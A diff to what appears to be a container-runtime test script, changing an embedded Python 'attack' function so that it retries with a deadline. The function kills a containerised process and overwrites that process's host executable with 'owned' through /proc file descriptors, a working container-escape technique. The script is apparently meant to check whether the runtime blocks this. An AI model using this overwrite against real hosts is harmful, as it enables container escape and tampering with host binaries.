@@ -11,20 +11,18 @@ prepare_more() {
 # The attacker finds the program while a container waits, and writes to it when it is not running any more.
 attack() {
     python3 - "$1" <<'END'
-import os, signal, sys
+import errno, os, signal, sys, time
 pid = int(sys.argv[1])
 program = os.open(f"/proc/{pid}/exe", os.O_PATH)
 os.kill(pid, signal.SIGKILL)
-while os.path.exists(f"/proc/{pid}/exe") and os.path.lexists(f"/proc/{pid}/root"):
+deadline, answer = time.monotonic() + 10, "busy"
+while answer == "busy" and time.monotonic() < deadline:
     try:
-        os.readlink(f"/proc/{pid}/exe")
-    except OSError:
-        break
-try:
-    os.write(os.open(f"/proc/self/fd/{program}", os.O_WRONLY), b"owned")
-    print("overwritten")
-except OSError as error:
-    print(error.strerror)
+        os.write(os.open(f"/proc/self/fd/{program}", os.O_WRONLY), b"owned")
+        answer = "overwritten"
+    except OSError as error:  # busy: the killed process is still going away
+        answer = "busy" if error.errno == errno.ETXTBSY else error.strerror
+print(answer)
 END
 }
 
